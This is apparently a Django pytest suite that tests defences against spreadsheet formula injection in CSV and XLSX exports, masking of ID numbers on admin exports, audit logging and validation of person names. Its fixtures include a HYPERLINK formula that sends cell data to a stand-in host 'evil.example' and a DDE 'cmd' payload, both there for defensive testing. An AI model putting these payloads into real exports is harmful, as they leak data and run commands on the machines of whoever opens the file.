"""Exports never turn a resident's text into a live formula; the admin's
import-export follows the workbench's masking and audit rules; person names
are validated where they are typed (issue 10, findings 3 and 4)."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Permission
from django.core.exceptions import ValidationError
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from civil_affairs import rules
from civil_affairs.exports import csv_response, safe_cell, xlsx_response
from civil_affairs.models import AuditEvent, BatchRunError, Person, Role
from tests.factories import MemberFactory, UserFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'


def _workbook(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def _csv_rows(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _no_formulas(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)


# ---------------------------------------------------------------- the one helper


@pytest.mark.parametrize(
    "value, expected",
    [
        (FORMULA, "'" + FORMULA),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("王建国", "王建国"),
        ("a=b", "a=b"),
        ("-12.50", "-12.50"),  # a number written as text (a CSV widget's rendering) is not a formula
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (1.5, 1.5),
        (dt.date(2026, 1, 1), dt.date(2026, 1, 1)),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
    assert type(safe_cell(value)) is type(expected)


def test_xlsx_cells_are_text_never_formulas_and_numbers_stay_numbers(db):
    response = xlsx_response(
        filename="t", sheet="s", headers=["=标题", "金额"], rows=[[FORMULA, Decimal("-12.50")], ["=1+1", 3]]
    )
    workbook = _workbook(response)
    _no_formulas(workbook)
    sheet = workbook.active
    assert sheet["A1"].value == "'=标题" and sheet["A1"].data_type == "s"
    assert sheet["A2"].value == "'" + FORMULA and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -12.5 and sheet["B2"].data_type == "n"
    assert sheet["A3"].value == "'=1+1" and sheet["B3"].value == 3


def test_csv_cells_are_escaped_headers_too(db):
    rows = _csv_rows(csv_response(filename="t", headers=["@h", "金额"], rows=[[FORMULA, Decimal("-5.00")]]))
    assert rows == [["'@h", "金额"], ["'" + FORMULA, "-5.00"]]


# ---------------------------------------------------------------- workbench exports


def test_people_export_shows_a_formula_name_as_text(households, users, login):
    # A name saved before names were validated (factories skip validation, as old rows did).
    MemberFactory(household__region=households["ours"].region, person__name=FORMULA)
    response = login(users[Role.CASEWORKER]).get("/work/people/", {"export": "xlsx"})
    workbook = _workbook(response)
    _no_formulas(workbook)
    names = [row[1] for row in workbook.active.iter_rows(values_only=True)]
    assert "'" + FORMULA in names and FORMULA not in names


def test_batch_error_file_is_escaped_and_audited_as_an_export(households, users, login):
    from civil_affairs import services

    run = services.batchrun_create(kind="import_person", params={}, user=users[Role.CASEWORKER])
    BatchRunError.objects.create(run=run, row=2, reason=f"name: {FORMULA}")
    BatchRunError.objects.create(run=run, row=3, reason="=cmd|' /C calc'!A0")
    response = login(users[Role.CASEWORKER]).get(f"/work/batches/{run.pk}/errors.csv")
    assert _csv_rows(response)[1:] == [["2", f"name: {FORMULA}"], ["3", "'=cmd|' /C calc'!A0"]]
    event = AuditEvent.objects.get(action="export", target_type="civil_affairs.batchrun")
    assert event.target_id == str(run.pk) and event.actor == users[Role.CASEWORKER]


# ---------------------------------------------------------------- admin export (django-import-export)


def _export_post_data(client, url, fmt):
    """The export form as the admin page offers it: every field ticked, the format chosen."""
    form = client.get(url).context["form"]
    data = {"format": next(value for value, label in form.fields["format"].choices if label == fmt), "resource": "0"}
    data.update(
        {
            name: "on"
            for name, field in form.fields.items()
            if name not in ("format", "resource") and field.widget.input_type == "checkbox"
        }
    )
    return data


@pytest.fixture
def formula_person(households):
    person = households["ours"].members.get(relation="head").person
    Person.objects.filter(pk=person.pk).update(name=FORMULA, phone="13912345678")
    person.refresh_from_db()
    return person


def test_admin_person_export_as_bureau_admin_full_numbers_escaped_and_audited(formula_person, users, login):
    client = login(users[Role.BUREAU_ADMIN])
    url = "/admin/civil_affairs/person/export/?residence_region__code=320612001001"
    response = client.post(url, _export_post_data(client, url, "csv"))
    assert response.status_code == 200, response.content[:500]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if formula_person.id_number in r)
    assert "'" + FORMULA in row and FORMULA not in row
    assert "13912345678" in row  # the bureau administrator has full_id_number
    event = AuditEvent.objects.get(action="export", target_type="civil_affairs.person")
    assert event.actor == users[Role.BUREAU_ADMIN]
    assert event.changes["filters"]["admin"] is True and event.changes["filters"]["rows"] == len(rows) - 1
    assert event.changes["filters"]["full_numbers"] is True


def test_admin_person_xlsx_export_has_no_formulas(formula_person, users, login):
    client = login(users[Role.BUREAU_ADMIN])
    url = "/admin/civil_affairs/person/export/"
    response = client.post(url, _export_post_data(client, url, "xlsx"))
    workbook = load_workbook(io.BytesIO(response.content))
    _no_formulas(workbook)
    values = [c for row in workbook.active.iter_rows(values_only=True) for c in row]
    assert "'" + FORMULA in values and FORMULA not in values
    assert AuditEvent.objects.filter(action="export", target_type="civil_affairs.person").count() == 1


@pytest.fixture
def staff_auditor(regions):
    """An auditor given the admin site and the right to view people (no full_id_number capability)."""
    user = UserFactory(username="admin_auditor", role=Role.AUDITOR, region=regions["city"], is_staff=True)
    user.user_permissions.add(*Permission.objects.filter(codename__in=["view_person", "view_householdmember"]))
    return user


def test_admin_export_masks_numbers_for_a_user_without_full_id_number(formula_person, staff_auditor, login):
    client = login(staff_auditor)
    url = "/admin/civil_affairs/person/export/"
    response = client.post(url, _export_post_data(client, url, "csv"))
    assert response.status_code == 200
    body = response.content.decode("utf-8-sig")
    assert formula_person.id_number not in body and "13912345678" not in body
    assert rules.mask_id_number(formula_person.id_number) in body and "139****5678" in body
    event = AuditEvent.objects.get(action="export", target_type="civil_affairs.person")
    assert event.actor == staff_auditor and event.changes["filters"]["full_numbers"] is False


def test_admin_member_export_masks_the_id_number_column(households, staff_auditor, login):
    client = login(staff_auditor)
    url = "/admin/civil_affairs/householdmember/export/"
    body = client.post(url, _export_post_data(client, url, "csv")).content.decode("utf-8-sig")
    head = households["ours"].members.get(relation="head").person
    assert head.id_number not in body and rules.mask_id_number(head.id_number) in body


def test_admin_export_needs_the_view_permission(formula_person, regions, login):
    staff = UserFactory(username="bare_staff", role=Role.AUDITOR, region=regions["city"], is_staff=True)
    response = login(staff).post("/admin/civil_affairs/person/export/", {"format": "0"})
    assert response.status_code == 403
    assert not AuditEvent.objects.filter(action="export").exists()


def test_admin_selected_rows_export_records_the_selection(formula_person, users, login):
    client = login(users[Role.BUREAU_ADMIN])
    url = "/admin/civil_affairs/person/export/"
    data = {**_export_post_data(client, url, "csv"), "export_items": [str(formula_person.pk)]}
    rows = list(csv.reader(io.StringIO(client.post(url, data).content.decode("utf-8-sig"))))
    assert len(rows) == 2
    event = AuditEvent.objects.get(action="export", target_type="civil_affairs.person")
    assert event.changes["filters"]["selected"] == [str(formula_person.pk)] and event.changes["filters"]["rows"] == 1


# ---------------------------------------------------------------- names on input

NAME_CHARS = st.one_of(
    st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF),
    st.characters(min_codepoint=0x3400, max_codepoint=0x4DBF),
    st.characters(min_codepoint=0x20000, max_codepoint=0x2A6DF),
    st.sampled_from("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"),
)


@given(
    st.lists(st.lists(NAME_CHARS, min_size=1, max_size=8).map("".join), min_size=1, max_size=4),
    st.sampled_from(["·", "・", "•", " "]),
)
def test_names_from_the_allowed_alphabet_pass(parts, separator):
    raw = separator.join(parts)
    name = rules.validate_person_name(raw)
    assert name == raw.replace("・", "·").replace("•", "·")
    assert rules.validate_person_name(name) == name  # normalising twice changes nothing


@given(st.text(min_size=0, max_size=10), st.sampled_from(list("=+@<>0123456789\t;&")), st.text(max_size=10))
def test_names_with_formula_markup_or_digits_fail(before, bad, after):
    with pytest.raises(rules.PersonNameError, match="姓名只能包含汉字、英文字母"):
        rules.validate_person_name(f"王{before}{bad}{after}")


def test_name_rules_by_example():
    assert rules.validate_person_name("  欧阳・娜娜 ") == "欧阳·娜娜"
    assert rules.validate_person_name("买买提　艾力") == "买买提 艾力"  # ideographic space
    assert rules.validate_person_name("王〇") == "王〇"
    assert rules.validate_person_name("𠈌") == "𠈌"  # Extension B, a rare character of names
    with pytest.raises(rules.PersonNameError, match="请输入姓名"):
        rules.validate_person_name("   ")
    with pytest.raises(rules.PersonNameError, match="不能超过50个字符"):
        rules.validate_person_name("王" * 51)


def test_the_person_model_refuses_a_formula_name(households):
    person = households["ours"].members.get(relation="head").person
    person.name = FORMULA
    with pytest.raises(ValidationError) as caught:
        person.full_clean(exclude=["sex", "birth_date"])
    assert "姓名只能包含汉字、英文字母、间隔号“·”和空格。" in caught.value.message_dict["name"]


def test_the_admin_refuses_a_formula_name(regions, users, login):
    number = rules.make_id_number("320612", dt.date(1960, 3, 5), 17)
    response = login(users[Role.BUREAU_ADMIN]).post(
        "/admin/civil_affairs/person/add/",
        {
            "id_number": number,
            "name": FORMULA,
            "hukou_region": regions["jinsha_1"].code,
            "residence_region": regions["jinsha_1"].code,
            "phone": "",
            "disability_grade": 0,
            "disability_type": "",
            "labour_capacity": "full",
            "death_date": "",
        },
    )
    assert response.status_code == 200 and "姓名只能包含汉字" in response.content.decode()
    assert not Person.objects.filter(id_number=number).exists()


def test_the_relief_member_form_refuses_a_formula_name_and_normalises_dots():
    from relief.forms import ApplyMemberForm

    data = {
        "id_number": rules.make_id_number("320612", dt.date(1990, 1, 1), 11),
        "relation": "child",
        "disability_grade": "0",
        "labour_capacity": "full",
    }
    form = ApplyMemberForm({**data, "name": "+cmd"})
    assert not form.is_valid() and "姓名只能包含汉字" in form.errors["name"][0]
    form = ApplyMemberForm({**data, "name": "欧阳・娜娜"})
    assert form.is_valid(), form.errors
    assert form.cleaned_data["name"] == "欧阳·娜娜"


def test_person_create_refuses_a_formula_name_with_a_message_and_normalises_dots(regions):
    from civil_affairs import services

    number = rules.make_id_number("320612", dt.date(1970, 2, 2), 33)
    with pytest.raises(services.DomainError, match="姓名只能包含汉字"):
        services.person_create(actor=None, id_number=number, name="@SUM(1+1)", hukou_region=regions["jinsha_1"])
    person = services.person_create(actor=None, id_number=number, name=" 欧阳・娜娜 ", hukou_region=regions["jinsha_1"])
    assert person.name == "欧阳·娜娜"
